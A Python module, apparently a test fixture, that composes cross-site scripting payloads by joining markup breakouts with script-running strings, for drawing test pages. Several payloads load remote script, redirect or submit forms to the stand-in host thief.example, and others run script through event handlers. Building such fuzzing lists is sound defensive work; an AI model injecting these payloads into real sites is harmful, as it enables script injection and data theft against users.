"""Hostile texts: every way out of a context joined with every thing to run there, and texts that stand alone.

`payloads.json` holds those that stand alone: encodings, templates, addresses, control and direction characters, broken
markup. A composed one first closes what it might have been put into, then tries to run.
"""

from __future__ import annotations

import json
from pathlib import Path

WAYS_OUT = (
    "",
    '">',
    "'>",
    "x'\"><b>",
    "</title>",
    "</desc></title></svg>",
    "</text></g></svg>",
    "</bdi></th></tr></table>",
    "</pre></details></article>",
    "</style>",
    "</script>",
    "</textarea></xmp>",
    "-->",
    "]]>",
    "</template></noscript>",
    "\u2028</h1></section>",
)

THINGS_TO_RUN = (
    "<script>document.title='taken'</script>",
    "<script src=//thief.example/a.js></script>",
    "<script type=module>import('//thief.example/m.js')</script>",
    "<img src=x onerror=\"document.title='taken'\">",
    "<svg onload=document.title='taken'>",
    "<svg><style>@import '//thief.example/s.css';</style></svg>",
    "<iframe srcdoc=\"<script>parent.document.title='taken'</script>\"></iframe>",
    "<video><source onerror=document.title='taken'></video>",
    "<details open ontoggle=document.title='taken'>",
    "<input autofocus onfocus=document.title='taken'>",
    "<object data=//thief.example/o></object>",
    "<form action=//thief.example><button autofocus>",
    "<meta http-equiv=refresh content='0;url=//thief.example'>",
    "<link rel=preload as=image href=//thief.example/p.png>",
    "<base href=//thief.example/>",
    "<a href=javascript:document.title='taken' ping=//thief.example>x</a>",
    "<marquee onstart=document.title='taken'>",
    "<math><mtext><img src=//thief.example/i></mtext></math>",
)

ALONE: list[str] = json.loads((Path(__file__).parent / "payloads.json").read_text("utf-8"))
COMPOSED = [
    (i, j, way + thing) for i, way in enumerate(WAYS_OUT) for j, thing in enumerate(THINGS_TO_RUN) if (i + j) % 3
]
PAYLOADS = [*ALONE, *(text for _, _, text in COMPOSED)]

SOME = [*ALONE, *(text for i, j, text in COMPOSED if (i + j) % len(WAYS_OUT) in (1, 5))]
"""Those that stand alone, and a few composed ones in which every way out and nearly every thing to run occurs."""

SOME_JOINED = ["".join(SOME[at : at + 4]) for at in range(0, len(SOME), 4)]
"""The same, four a text: a page is drawn for each text."""
